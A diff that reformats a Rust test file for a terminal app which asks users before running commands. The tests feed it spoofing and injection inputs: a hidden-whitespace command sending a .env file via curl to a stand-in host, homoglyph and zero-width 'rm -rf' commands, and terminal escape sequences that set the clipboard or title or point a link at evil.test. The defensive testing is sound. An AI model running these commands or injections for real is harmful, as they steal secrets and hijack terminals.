@@ -1,4 +1,5 @@
-//! What a question or an output can do to the terminal app: in a real terminal, with every byte that reached it recorded.
+//! What a question or an output can do to the terminal app: in a real terminal, with every byte
+//! that reached it recorded.
 
 use super::{judge, of};
 use crate::Home;
@@ -35,12 +36,18 @@ impl Scene {
 
     /// Every byte that the terminal was sent.
     fn bytes(&self) -> String {
-        String::from_utf8_lossy(&std::fs::read(self.home.dir.path().join("bytes")).unwrap_or_default()).into_owned()
+        String::from_utf8_lossy(
+            &std::fs::read(self.home.dir.path().join("bytes")).unwrap_or_default(),
+        )
+        .into_owned()
     }
 
     fn says(&self, wanted: &[&str], never: &[&str]) -> Held {
         let (screen, bytes) = (self.window.all(), self.bytes());
-        match (wanted.iter().find(|w| !screen.contains(**w)), never.iter().find(|n| bytes.contains(**n))) {
+        match (
+            wanted.iter().find(|w| !screen.contains(**w)),
+            never.iter().find(|n| bytes.contains(**n)),
+        ) {
             (Some(missing), _) => Err(format!("{missing:?} is not on the screen:\n{screen}")),
             (_, Some(sent)) => Err(format!("{sent:?} reached the terminal")),
             (None, None) if bytes.is_empty() => Err("nothing was recorded".into()),
@@ -81,13 +88,17 @@ async fn question(id: &str) -> Held {
         }
         "G226" => asked("touch \u{202e}gpj.exe", &["\\u{202e}", "careful"], &["\u{202e}"]).await,
         "G227" => asked("r\u{200b}m -rf src", &["r\\u{200b}m", "careful"], &["\u{200b}"]).await,
-        "G228" => asked("curl https://\u{430}pple.com/x", &["xn--pple-43d.com", "careful"], &[]).await,
+        "G228" => {
+            asked("curl https://\u{430}pple.com/x", &["xn--pple-43d.com", "careful"], &[]).await
+        }
         "G229" => {
             let command = format!("ls{}; curl -d @.env http://127.0.0.1:9", " ".repeat(400));
             asked(&command, &["⟨400 blanks⟩; curl -d @.env http://127.0.0.1:9"], &[]).await
         }
         "G230" => {
-            let scene = Scene::new(&(1..=300).map(|n| format!("touch {n}.x\n")).collect::<String>(), 0).await;
+            let scene =
+                Scene::new(&(1..=300).map(|n| format!("touch {n}.x\n")).collect::<String>(), 0)
+                    .await;
             scene.window.wait_for_question("n decline");
             scene.window.key("y");
             scene.window.wait_for("scroll to the end first");
@@ -112,7 +123,9 @@ async fn question(id: &str) -> Held {
             scene.window.wait_for("n decline");
             std::thread::sleep(Duration::from_millis(600));
             match (count(&facts(&scene.home).await, "replied"), scene.window.screen()) {
-                (0, screen) if screen.contains("yyyy") => Ok("no answer, and nothing of it lost".into()),
+                (0, screen) if screen.contains("yyyy") => {
+                    Ok("no answer, and nothing of it lost".into())
+                }
                 other => Err(format!("{other:?}")),
             }
         }
@@ -122,11 +135,23 @@ async fn question(id: &str) -> Held {
 
 async fn output(id: &str) -> Held {
     match id {
-        "G223" => printed("printf '\\033]52;c;aGFja2Vk\\007'; echo after-it", &["\u{1b}]52;"]).await,
-        "G224" => printed("printf '\\033]8;;http://evil.test\\n'; echo after-it", &["\u{1b}]8;;http://evil"]).await,
+        "G223" => {
+            printed("printf '\\033]52;c;aGFja2Vk\\007'; echo after-it", &["\u{1b}]52;"]).await
+        }
+        "G224" => {
+            printed(
+                "printf '\\033]8;;http://evil.test\\n'; echo after-it",
+                &["\u{1b}]8;;http://evil"],
+            )
+            .await
+        }
         "G225" => {
             let never = ["\u{1b}]0;", "\u{1b}P$q", "\u{1b}[6n", "\u{1b}[c"];
-            printed("printf '\\033]0;owned\\007\\033P$q\"p\\033\\\\\\033[6n\\033[c'; echo after-it", &never).await
+            printed(
+                "printf '\\033]0;owned\\007\\033P$q\"p\\033\\\\\\033[6n\\033[c'; echo after-it",
+                &never,
+            )
+            .await
         }
         "G514" => {
             let scene = Scene::new("true", 0).await;
@@ -139,14 +164,23 @@ async fn output(id: &str) -> Held {
                 std::thread::sleep(Duration::from_millis(700));
             }
             let folder = scene.home.dir.path().join(".local/state/dunnock/exports");
-            let mode = |path: &std::path::Path| path.symlink_metadata().map_or(0, |m| m.permissions().mode() & 0o777);
-            let files: Vec<_> = std::fs::read_dir(&folder).into_iter().flatten().flatten().map(|e| e.path()).collect();
-            let private = files
-                .iter()
-                .all(|f| mode(f) == 0o600 && f.symlink_metadata().is_ok_and(|m| m.is_file() && m.len() > 0));
+            let mode = |path: &std::path::Path| {
+                path.symlink_metadata().map_or(0, |m| m.permissions().mode() & 0o777)
+            };
+            let files: Vec<_> = std::fs::read_dir(&folder)
+                .into_iter()
+                .flatten()
+                .flatten()
+                .map(|e| e.path())
+                .collect();
+            let private = files.iter().all(|f| {
+                mode(f) == 0o600 && f.symlink_metadata().is_ok_and(|m| m.is_file() && m.len() > 0)
+            });
             let random = files.iter().all(|f| f.file_stem().is_some_and(|n| n.len() >= 17));
             match (files.len(), private, random, mode(&folder)) {
-                (2, true, true, 0o700) => Ok("new files, names nobody knows, for this user only".into()),
+                (2, true, true, 0o700) => {
+                    Ok("new files, names nobody knows, for this user only".into())
+                }
                 other => Err(format!("{other:?} {files:?}")),
             }
         }
